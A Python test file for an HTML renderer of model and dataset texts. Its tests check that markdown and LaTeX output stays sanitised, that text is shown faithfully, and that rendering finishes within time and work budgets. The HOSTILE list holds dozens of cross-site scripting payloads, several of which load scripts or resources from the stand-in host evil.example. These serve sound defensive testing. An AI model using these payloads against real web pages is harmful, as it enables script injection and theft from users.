r"""Texts that a model or a dataset may hold, and the HTML that a browser gets for them."""

import cProfile
import itertools
import re
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from functools import cache, partial
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from benchmarks.rendering import GOAL_SECONDS, TEXTS_OF_A_PAGE, hostile_texts
from forests.markup import rendering as markup
from forests.markup.latex import to_mathml
from forests.markup.rendering import (
    MAX_MARKDOWN_LENGTH,
    MAX_SHOWN_LENGTH,
    MAX_TEXTS_OF_CHAT,
    MAX_TEXTS_OF_PAGE,
    PageTexts,
    excerpt,
    highlighted,
    one_line,
    render_markdown,
    render_prefix,
    render_prompt,
    render_raw,
)
from tests.browser.xss import CORPUS

ALLOWED_TAGS = {
    "blockquote", "br", "code", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "bdi",
    "math", "menclose", "mfrac", "mi", "mmultiscripts", "mn", "mo", "mover", "mpadded", "mphantom",
    "mprescripts", "mroot", "mrow", "mspace", "msqrt", "mstyle", "msub", "msubsup", "msup",
    "mtable", "mtd", "mtext", "mtr", "munder", "munderover",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "accent", "accentunder", "class", "depth", "dir", "display", "displaystyle", "form", "height",
    "largeop", "linethickness", "lspace", "mathcolor", "mathvariant", "maxsize", "minsize",
    "movablelimits", "notation", "rspace", "scriptlevel", "start", "stretchy", "symmetric",
    "value", "voffset", "width",
}  # fmt: skip

MAX_CALLS = 250_000

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://evil.example/ 'onmouseover=alert(1)')",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=a()></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=a()></style></mglyph></table></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<p id=progress hx-get=/admin/ hx-trigger=load>x</p>",
    "</div></div><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onload=alert(1)\n<b>\n```",
    "`<script>alert(1)</script>`",
    "| <script> | <img src=x onerror=alert(1)> |\n|---|---|\n| a | b |",
    "$<script>alert(1)</script>$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{https://evil.example}$",
    r"$\class{x}{y}\style{color:red}{z}\cssId{progress}{w}$",
    r"$\includegraphics{https://evil.example/x.png}$",
    r"$$\begin{align}\label{progress} a \end{align}$$ $\eqref{progress}$",
    r"\(\text{</mtext></math><script>alert(1)</script>}\)",
    r"\[ \color{red;background:url(https://evil.example)} x \]",
    r"$\newcommand{\a}{<script>}\a$",
    "[a]($x$ 'onclick=alert(1)')",
    '<a href="$x$">$y$</a>',
    "<img src=x $onerror=alert(1)$>",
    "M0123456789abcdefN0E $x$ M0123456789abcdefN99E",
    "\u0002klzzwxh:0000\u0003 **x** \u0002amp\u0003",
    "\ud800<script>\udfff",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>\u2066",
]


class Reading(HTMLParser):
    """The tags, attributes and text of an HTML fragment."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in ("br", "hr", "img", "input", "link", "meta", "mspace", "mprescripts"):
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data


def assert_inert(html: str) -> Reading:
    reading = Reading(html)
    assert set(reading.tags) <= ALLOWED_TAGS
    assert {name for name, _ in reading.attributes} <= ALLOWED_ATTRIBUTES
    for _, value in reading.attributes:
        assert ":" not in (value or "")
        assert "/" not in (value or "")
    assert reading.open == []
    html.encode()
    return reading


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "# {}", "**{}**", "a\n\n    {}", "$x$ {}"])
def test_hostile_text_is_inert(text, frame):
    assert_inert(render_markdown(frame.replace("{}", text)))
    assert_inert(render_raw(text))
    assert_inert(render_prompt([{"role": text, "content": text}]))
    assert_inert(render_prompt({"unexpected": [text]}))


_PIECES = st.sampled_from(
    [*HOSTILE, "$", "$$", "\\(", "\\)", "\\[", "\\]", "`", "```\n", "*", "_", "\n", "\n\n", "<",
     ">", "&", '"', "'", "x", "1", " ", "|", "#", "\\", "{", "}", "\\frac", "^", "- ", "    ",
     "~~~\n", "\\begin{align}", "\\end{align}", "<b", "=", "javascript:", "onerror="]
)  # fmt: skip


@settings(max_examples=150)
@given(st.lists(_PIECES | st.text(max_size=5), max_size=12).map("".join))
def test_any_mixture_of_marks_is_inert(text):
    assert_inert(render_markdown(text))


@settings(max_examples=100)
@given(st.text(alphabet="$\\{}()[]^_&abfrcsqt12 \n<>`*'\"#", max_size=60))
def test_any_formula_is_inert(text):
    assert_inert(render_markdown(f"${text}$ \\[{text}\\]"))


@pytest.mark.parametrize(
    "text",
    [
        "Eggs cost $2 per egg and $3 per dozen.",
        "He pays $5 each, so 3*$5 and 4*$5*2.",
        "$10 bill + 5$ in coins",
        "She makes 9 * 2 = $<<9*2=18>>18 every day.",
        "He earns $10*5=$<<10*5=50>>50 and 3*4*5 more",
        "48/2 = <<48/2=24>>24 clips",
        "#### 18",
        "#### -1,234",
        "#### $5",
        r"\boxed{42} outside of a formula",
        r"an unclosed \[ and \( and \{a\}",
        "a &lt;b&gt; &amp; c < d > e",
        "[x](https://example.org) ![y](z.png) <b>bold</b>",
        "snake_case_name and x_1*y_2*z_3",
        "$100-$20=$80 and $80/4=$20",
        "The rate is $10/hour*$3, then $1,000 + $2,000 = $3,000.",
        "He has $20. She has $30 & they pay $5*3 and 4*5$.",
    ],
)
def test_text_that_only_looks_like_markup_is_shown_as_written(text):
    reading = assert_inert(render_markdown(text))
    assert reading.text == text
    assert set(reading.tags) == {"div", "p"}


@pytest.mark.parametrize(
    ("text", "is_display"),
    [
        (r"$\frac{1}{2}$", False),
        (r"\(\frac{1}{2}\)", False),
        (r"$$\frac{1}{2}$$", True),
        ("\\[\n\\frac{1}{2}\n\\]", True),
        ("\\begin{align*}\nx &= \\frac{1}{2} \\\\[2pt]\ny &= 2\n\\end{align*}", True),
        (r"$10 \text{ of } \frac{1}{2}$", False),
        (r"so $x_1*y_1*z_1 = \frac{1}{2}$", False),
    ],
)
def test_formulas_become_mathml(text, is_display):
    html = render_markdown(text)
    assert "<mfrac><mn>1</mn><mn>2</mn></mfrac>" in html
    assert ('<math display="block">' in html) is is_display
    assert " style=" not in html
    assert "<mi>p</mi>" not in html
    assert "$" not in html
    assert_inert(html)


# LaTeX as in the solutions of MATH and of models.
MATH_FORMULAS = [
    r"\dfrac{1}{2}\tfrac12\cfrac12", r"\binom{5}{2} = {5 \choose 2}", r"\sqrt[3]{x}",
    r"\lfloor x\rfloor\lceil x\rceil\lvert x\rvert", r"\overline{AB}\overrightarrow{AB}",
    r"\angle ABC = 90^\circ", r"\triangle ABC \cong \triangle DEF", r"a\equiv b\pmod{7}",
    r"\operatorname{lcm}(a,b)\gcd(a,b)", r"\left(\frac{1}{2},\infty\right]", r"1,\!000",
    r"\begin{array}{c|c}\hline 1&2\\ \hline\end{array}", r"\begin{cases}x&y\\z&w\end{cases}",
    r"\begin{pmatrix}1\\2\end{pmatrix}", r"\begin{aligned}a&=b\\&=c\end{aligned}",
    r"\boxed{\text{(A)}}", r"5\text{ cm}^2\mbox{ m}\textbf{ B}\textit{i}", r"\cancel{x}",
    r"\underbrace{a+b}_{c}\stackrel{a}{=}", r"\mathbb{R}\mathcal{S}\mathbf{v}\pmb{x}\bm y",
    r"\begin{split}a&=b\end{split}", r"a=b \tag{1}", r"\sum_{\substack{i<j\\j<n}} x", r"a\hfill b",
    r"\{1,2\}\cup\emptyset", r"\lim_{x\to 0}\int_0^1 x\,dx", r"f^{-1}(x') \implies y",
]  # fmt: skip


@pytest.mark.parametrize("latex", MATH_FORMULAS)
def test_the_latex_of_math_solutions_is_understood(latex):
    html = render_markdown(f"so \\[{latex}\\] holds")
    assert '<math display="block">' in html
    assert "formula" not in html
    assert_inert(html)


def test_other_names_of_commands_are_read_as_those_that_are_known():
    html = render_markdown(r"$x \tag{*}$ $\textbf{if}$ \(a\\textbf\)")
    assert "<mtext>(*)</mtext>" in html
    assert "<mtext>if</mtext>" in html
    assert "<mtext>bf</mtext>" not in html


def test_styles_of_the_converter_become_classes_and_colours():
    html = render_markdown(r"\begin{align*} \color{red} a &= b \end{align*}")
    assert 'mathcolor="#FF0000"' in html
    assert 'class="m-right m-pr0"' in html


def test_a_formula_that_is_not_understood_is_shown_as_its_source():
    html = render_markdown(r"so $\foo{<b>}$ holds")
    assert r'so <code class="formula">$\foo{&lt;b&gt;}$</code> holds' in html


@pytest.mark.parametrize("text", ["`$x$`", "```\n$x$\n```", "~~~\n\\(x\\)\n~~~"])
def test_code_holds_no_formula(text):
    assert "<math" not in render_markdown(text)


def test_markdown_is_rendered():
    html = render_markdown("**bold**, `code`\nnext line\n\n- one\n- two\n\n| a |\n|---|\n| 1 |")
    for part in (
        "<strong>bold</strong>",
        "<code>code</code>",
        "<br>",
        "<li>one</li>",
        "<td>1</td>",
    ):
        assert part in html


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "| a |\n|---|\n| {} |", "$x$ {}"])
def test_the_attacks_of_the_browser_tests_are_inert(text, frame):
    assert_inert(render_markdown(frame.replace("{}", text)))


def test_a_list_below_a_line_of_text_is_a_list_and_keeps_its_numbers():
    assert "<li>a</li>" in render_markdown("We know:\n- a\n- b")
    assert '<ol start="2"><li>Add.</li>' in render_markdown("2. Add.\n3. Divide.")


@pytest.mark.parametrize(
    ("text", "items"),
    [
        ("3. a\n5. b\n6. c", '<ol start="3"><li>a</li>\n<li value="5">b</li>\n<li>c</li>'),
        ("1. a\n1. b", '<ol><li>a</li>\n<li value="1">b</li>'),
        ("1) a\n0) b", '<ol><li>a</li>\n<li value="0">b</li>'),
        ("1. a\n   - x\n2. b\n9. c", '<li>b</li>\n<li value="9">c</li>'),
        ("1. a\n\n   1. x\n   3. y\n2. b", '<li value="3">y</li>\n</ol>\n</li>\n<li><p>b</p>'),
    ],
)
def test_items_of_a_list_keep_their_numbers(text: str, items: str):
    assert items in render_markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        "= 8\n+ 3", "12\n+ 30", "Total 20\n- 5\n= 15", "20\n- 5 = 15", "3\n* 4\n* 5",
        "1.5\n+ $2,000.50",
        "90%\n- 15%", "a\n\n12\n+ (3 \u00d7 4)\n- 2", "12\n+  30",
    ],
)  # fmt: skip
def test_lines_of_a_sum_keep_their_signs(text: str):
    for start in ("", "> "):
        reading = assert_inert(render_markdown(re.sub("^", start, text, flags=re.MULTILINE)))
        signs = re.findall(r"[-+*=]", text)
        assert re.findall(r"[-+*=]", reading.text) == signs
        assert "ul" not in reading.tags


@pytest.mark.parametrize(
    "text", ["Take:\n- 5 apples\n- 3 pears", "- a\n- 5\n- 7", "1. a\n   - b\n   - 5", "a\n- y + 5"]
)
def test_lists_below_a_text_and_numbers_in_lists_stay_lists(text: str):
    assert render_markdown(text).count("<li>") >= text.count("- ")


@pytest.mark.parametrize(
    ("text", "bold"),
    [
        ("**Note:**text", ["Note:"]),
        ("**Note!**text and **more**", ["Note!", "more"]),
        (
            "**注意\uff1a**这是**重点**\uff0c**A\uff1a**b**c**",
            ["注意\uff1a", "重点", "A\uff1a", "c"],
        ),
        ("是**“注意”**文本", ["“注意”"]),
        (
            "是**\uff08一\uff09**个\uff0c是**100%**的**`c`**是**5**个",
            ["\uff08一\uff09", "100%", "c", "5"],
        ),
        ("说**a**\uff1a**b**", ["a", "b"]),
        ('She said "**no**" and (**yes**).', ["no", "yes"]),
        ("***Note:***text", ["Note:"]),
    ],
)
def test_bold_text_may_end_with_a_mark_before_a_letter(text: str, bold: list[str]):
    html = render_markdown(text)
    found = [re.sub("<[^>]*>", "", one) for one in re.findall("<strong>(.*?)</strong>", html)]
    assert found == bold
    assert "*" not in Reading(html).text


@pytest.mark.parametrize(
    "text",
    [
        "2**3**4",
        "a ** b ** c",
        "3*4*5",
        "(x)**2 + (y)**2",
        "x**2+y**2",
        "a[0]**2 + a[1]**2",
        "2.**n",
    ],
)
def test_powers_and_products_keep_their_stars(text: str):
    reading = assert_inert(render_markdown(text))
    assert reading.text == text
    assert set(reading.tags) == {"div", "p"}


@pytest.mark.parametrize(
    "text",
    ["```The answer is 5\nfoo\n```", "``` 12 + 3 = 15\nThe rest", "~~~ sum is 7 ~~~", "```42\n```",
     "```Answer\n42\n```", "- ```Therefore 8\n  x\n  ```", "> ~~~~ 7 eggs\n> x\n> ~~~~"],
)  # fmt: skip
def test_what_follows_the_opening_mark_of_code_is_shown(text: str):
    shown = assert_inert(render_markdown(text)).text
    assert re.findall(r"\w+", shown) == re.findall(r"\w+", text)


@pytest.mark.parametrize("language", ["python", "Python", " latex", "c++", "text", ""])
def test_the_language_of_code_is_not_shown(language: str):
    assert "<pre><code>x\n</code></pre>" in render_markdown(f"```{language}\nx\n```")


_FRAMES = st.sampled_from(
    ["{}", "{} {}", "**{}** {}", "*{}*{}", "**{}\uff1a**{}", "`{}` {}", "# {}", "## {} ##",
     "#### {}", "> {}", "> > {}", "- {}", "* {}\n  + {}", "+ {}", "1. {}", "7) {}", "   - {}",
     "    {}", "\t{}", "```{}", "``` {} {}", "```", "~~~{} {} ~~~", "~~~", "`` {} ` {} ``",
     "| {} | {} |", "|{}|{}|{}|", "|-|-|", "-|-", "{}|{}", "---", "===", "***", "$x^2$ {}",
     "\\({}", "\\[ x \\] {}", "a $5 {} $6", "[{}]({})", "![{}]({} '{}')", "[{}]: {}", "<b>{}</b>",
     "<{}>", "<!-- {} -->", "&{};", "\\{}", "{}\\", "{}  ", "- 5 {}", "+ 3", "[^{}]", "_{}_{}",
     "~~{}~~", "{} ** {}", "- [ ] {}", "\\boxed{{{}}}", "``{}"]
)  # fmt: skip


@settings(max_examples=300)
@given(st.lists(st.tuples(_FRAMES, st.sampled_from(["\n", "\n\n", " ", "\n  "])), max_size=25))
def test_no_word_of_a_text_is_lost(pieces: list[tuple[str, str]]):
    numbers = itertools.count(100)
    text = ""
    for frame, gap in pieces:
        text += frame.format(*(f"word{next(numbers)}" for _ in range(frame.count("{}")))) + gap

    shown = assert_inert(render_markdown(text)).text

    assert re.findall(r"word\d{3}", re.sub(r"\s", "", shown)) == re.findall(r"word\d{3}", text)


def test_bars_of_formulas_and_code_are_no_cells():
    html = render_markdown("| $|x|$ | `a|b` |\n|---|---|\n| $P(A|B)$ | 2 |")
    assert html.count("<td>") == html.count("<th>") == 2
    assert "<code>a|b</code>" in html


def test_lines_of_a_formula_are_no_lists_or_headings():
    html = render_markdown("So \\[\nx\n= 2\n- 3\n\n| 4\n\\] holds")
    assert set(Reading(html.partition("<math")[0]).tags) == {"div", "p"}
    assert html.count("<p>") == 1


@pytest.mark.parametrize(
    "text",
    ["> " * 30 + "deep", "- " * 30 + "deep", "| a |\n|---|\n| 1 | deep |", "| a |\n|---|\ndeep"],
)
def test_what_the_parser_would_leave_out_is_shown(text):
    assert "deep" in assert_inert(render_markdown(text)).text


def test_text_in_other_scripts_is_isolated_and_kept():
    reading = assert_inert(render_markdown("\u202eשלל **עלל**"))
    assert reading.text == "\u202eשלל עלל"
    assert ("dir", "auto") in reading.attributes


@pytest.mark.parametrize("text", [None, "", "   \n"])
def test_nothing_renders_as_nothing(text):
    assert Reading(render_markdown(text)).text.strip() == ""


def test_a_long_text_is_markdown_first_then_raw_then_counted():
    text = "**a**\n" * (MAX_SHOWN_LENGTH // 3)
    reading = assert_inert(render_markdown(text))
    assert 0 < reading.tags.count("strong") <= MAX_MARKDOWN_LENGTH // 6
    assert reading.tags.count("pre") == 1
    assert f"{len(text) - MAX_SHOWN_LENGTH:,} more characters are not shown." in reading.text
    assert reading.text.count("a\n") + reading.text.count("a**") >= MAX_SHOWN_LENGTH // 6 - 1


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "*a ", "**a", "` ", "<a ", "> ", "```a\n", "~~~a\n", "| a | b |\n|---|---|\n", "&",
     "\\(", "\\[", "$a", "$$a", "${", "\\begin{align}a", "{", "- a\n", "a", "_a", "#### 1\n"],
)  # fmt: skip
def test_a_megabyte_of_any_mark_takes_bounded_time(piece):
    text = piece * (1_000_000 // len(piece))
    began = time.process_time()
    assert_inert(render_markdown(text))
    assert time.process_time() - began < 3


_NESTED = ["{", "\\sqrt{", "\\frac", "\\left(", "x^{", "\\begin{matrix}", "\\sqrt[", "\\color{red}",
           "\\text{$", "\\mathbf", "\\frac x", "\\underbrace{", "^\\frac"]  # fmt: skip


def is_rendered_within(seconds: float, text: str) -> bool:
    """Return whether one of three renderings is fast enough: other programs use the machine too."""
    for _ in range(3):
        markup._rendered.cache_clear()
        began = time.thread_time()
        render_markdown(text)
        if time.thread_time() - began < seconds:
            return True
    return False


def calls_of(show: Callable[[], str]) -> tuple[int, str]:
    """Return the number of Python calls of `show` (its work, not its time), and its HTML."""
    markup._rendered.cache_clear()
    with cProfile.Profile(builtins=False) as profile:
        html = show()
    return sum(entry.callcount for entry in profile.getstats()), html


@cache
def work_of(text: str) -> tuple[int, str]:
    """Return how many calls it takes to render a text, and its HTML."""
    return calls_of(partial(render_markdown, text))


@pytest.mark.parametrize("name", hostile_texts(1))
def test_twice_the_text_takes_at_most_about_twice_the_work(name: str):
    """Work is counted in calls; other tests limit the time of single calls."""
    texts = [hostile_texts(length)[name] for length in (1_250, 2_500, 5_000)]
    calls = [work_of(text)[0] for text in texts]

    least = 20_000  # fewer calls than this say nothing about growth
    for shorter, longer in itertools.pairwise(calls):
        assert longer < 2.5 * max(shorter, least), calls


@pytest.mark.parametrize("name", hostile_texts(1))
@pytest.mark.parametrize("length", [5_000, 50_000])
def test_a_hostile_text_is_read_as_markdown_within_a_budget_and_then_raw(name: str, length: int):
    text = hostile_texts(length)[name]
    calls, html = work_of(text)

    assert calls < MAX_CALLS
    assert is_rendered_within(10 * GOAL_SECONDS, text)  # the machine may be busy
    assert_inert(html)


def test_where_the_budget_ends_the_rest_of_a_text_is_shown_as_it_was_written():
    lines = [f"| *{number}* | `b` |" for number in range(400)]
    html = render_markdown("\n".join(["| a | b |", "|---|---|", *lines]))

    markdown, raw = html.split('<pre class="raw"')
    first_raw = raw.partition(">")[2].partition("\n")[0]
    number = int(re.findall(r"\d+", first_raw)[0])
    assert first_raw == lines[number]
    assert f"<em>{number - 1}</em>" in markdown
    assert f"<em>{number}</em>" not in markdown


def test_solutions_with_many_formulas_are_read_whole():
    step = r"Then $\frac{a^{2}+b_{1}}{c\cdot d}=\sqrt{x^{3}-1}$ and \(\alpha_{i}\le\beta^{j}\)."

    assert '<pre class="raw"' not in render_markdown(f"{step}\n" * 55)


def test_a_long_block_of_code_is_read_whole():
    lines = [f"    total_{number} += values[{number}] * (x_{number} - 1)" for number in range(100)]

    html = render_markdown("\n".join(["```", *lines, "```", "**Done.**"]))

    assert "<strong>Done.</strong>" in html
    assert '<pre class="raw"' not in html


_TABLE = "a|b\n-|-\n\n"
_TABLES = _TABLE * 1_000


def test_the_messages_of_a_hostile_chat_share_one_budget():
    message = {"role": "user", "content": _TABLES[:4_000]}
    began = time.thread_time()

    html = render_prompt([message] * 20)

    assert html.count('<div class="chat">') == 20
    assert 0 < html.count("<table>") <= MAX_TEXTS_OF_CHAT * MAX_MARKDOWN_LENGTH // len(_TABLE)
    assert time.thread_time() - began < 20 * GOAL_SECONDS


@pytest.mark.parametrize("unit", [_TABLE, "- a\n", "*a*"])
def test_the_texts_of_a_page_share_one_budget(unit: str):
    """Twice as many texts on a page add only the work of showing texts raw."""
    text = (unit * 5_000)[:5_000]

    def page(number: int) -> str:
        texts = PageTexts()
        shown = [texts.markdown(f"{one} {text}") for one in range(number)]
        assert sum('<pre class="raw"' not in one for one in shown) == 0
        return "".join(shown)

    one, _ = calls_of(lambda: page(1))
    whole, _ = calls_of(lambda: page(TEXTS_OF_A_PAGE))
    twice, html = calls_of(lambda: page(2 * TEXTS_OF_A_PAGE))

    assert whole < 1.2 * MAX_TEXTS_OF_PAGE * one
    assert twice < 1.2 * whole
    assert html.count('<pre class="raw"') == 2 * TEXTS_OF_A_PAGE


def test_a_page_looks_the_same_whatever_was_shown_before():
    text = _TABLES[:5_000]
    pages = []
    for _ in range(2):
        texts = PageTexts()
        pages.append([texts.prompt([{"role": "user", "content": text}] * 4) for _ in range(20)])

    assert pages[0] == pages[1]
    assert "<table>" in pages[0][0]
    assert "<table>" not in pages[0][-1]


def test_a_page_of_long_examples_and_solutions_is_read_whole():
    prompt = "".join(f"Question: What is {n} + {n}?\nAnswer: {2 * n}\n\n" for n in range(100))
    solution = "Then $\\frac{a}{b} = 2$, so **$x = 3$**.\n" * 20
    texts = PageTexts()

    shown = [(texts.prompt(prompt), texts.markdown(solution)) for _ in range(20)]

    assert '<pre class="raw"' not in "".join(one for pair in shown for one in pair)


def test_a_chat_of_examples_is_read_whole():
    message = {"role": "user", "content": "**Question:** How many?\n\n- `3 * 4`\n- *12*\n" * 3}

    html = render_prompt([message] * 20)

    assert html.count("<strong>") == 60
    assert '<pre class="raw"' not in html


def test_a_deeply_nested_formula_does_not_end_the_process():
    """The converter recurses in C: with a small stack, a deep formula is a segmentation fault."""
    script = f"""
import threading
from forests.markup.latex import MAX_LENGTH, to_mathml
def convert():
    for piece in {_NESTED!r}:
        for number in (10, 60, 100, 124, 200, 249, 1000, 10**6):
            to_mathml(piece * number, display=True)
            to_mathml(piece * number + "x" + "}}" * number, display=True)
threading.stack_size(1024 * 1024)
thread = threading.Thread(target=convert)
thread.start()
thread.join()
"""
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, check=False)
    assert result.returncode == 0, result.stderr


def test_definitions_and_endless_macros_are_refused():
    assert to_mathml(r"\newcommand{\a}{\a\a}\a", display=False) is None
    assert to_mathml(r"\def\a{b}\a", display=False) is None
    assert to_mathml(r"\deg 5", display=False) is not None


# Searching


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("phrase", ["script", "<", "&", "lt", "p", "class", "x", '"', "alert(1)"])
def test_marking_what_was_found_adds_marks_and_nothing_else(text, phrase):
    pattern = re.compile(re.escape(phrase), re.IGNORECASE)
    for html in (render_markdown(text), render_raw(text), excerpt(text, 90, None)):
        before, after = Reading(html), Reading(highlighted(html, pattern))
        assert after.text == before.text
        assert [tag for tag in after.tags if tag != "mark"] == before.tags
        assert after.attributes == before.attributes


def test_words_are_marked_and_tags_and_formulas_are_not():
    html = highlighted(render_markdown("a **p** p > $p$ P"), re.compile("p", re.IGNORECASE))
    assert html.count("<mark>p</mark>") == 2
    assert "<strong><mark>p</mark></strong>" in html
    assert "<mi>p</mi>" in html
    assert "<mark>P</mark>" in html
    assert "&gt;" in html


def test_an_excerpt_begins_shortly_before_what_was_found():
    text = "word " * 100 + "<b>needle</b> " + "word " * 100
    line = excerpt(text, 60, re.compile("needle"))
    assert "&lt;b&gt;<mark>needle</mark>&lt;/b&gt;" in line
    assert line.startswith("…")
    assert len(Reading(line).text) <= 60
    assert excerpt("<a>\n b", 60) == "&lt;a&gt; b"


def test_a_prefix_tells_the_prompt_and_the_steps_apart():
    html = render_prefix("2 < 3?\n", "yes & no")
    assert html == (
        '<pre class="raw" dir="auto">2 &lt; 3?\n<span class="written">yes &amp; no</span></pre>'
    )
    long = render_prefix("a" * MAX_SHOWN_LENGTH, "b" * 10)
    assert "The first 10 characters are not shown." in long
    assert Reading(long).text.count("a" * 100) == MAX_SHOWN_LENGTH // 100 - 1
    assert "b" * 10 in long


def test_rendering_in_threads_does_not_mix_texts():
    wrong = []

    def render(name: str) -> None:
        for number in range(40):
            html = render_markdown(f"*{name}* $x_{{{number}}}$ `{name}{number}`")
            if f"<em>{name}</em>" not in html or f"<code>{name}{number}</code>" not in html:
                wrong.append(html)

    threads = [threading.Thread(target=render, args=(name,)) for name in "abc"]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []


def test_a_prompt_shows_the_role_of_each_message():
    html = render_prompt(
        [{"role": "system", "content": "Be *brief*."}, {"role": "user", "content": "$2+2$?"}]
    )
    reading = assert_inert(html)
    assert reading.text == "systemBe brief.user2+2?"
    assert html.count('class="chat"') == 2


def test_a_chat_is_shown_up_to_the_length_of_one_text():
    long = [{"role": "user" * 50, "content": "x" * (MAX_SHOWN_LENGTH // 4)}] * 10
    html = render_prompt(long)
    assert html.count('class="chat"') == 4
    assert "6 more messages are not shown." in html
    assert "user" * 26 not in html

    empty = render_prompt([{"role": "", "content": ""}] * MAX_SHOWN_LENGTH)
    assert len(empty) < MAX_SHOWN_LENGTH * 2


def test_one_line_is_cut_to_its_length():
    assert one_line(" a\n\n b\tc ", 10) == "a b c"
    assert one_line("abcdefgh", 5) == "abcd…"
    assert one_line("x " * 10**6, 5) == "x x…"
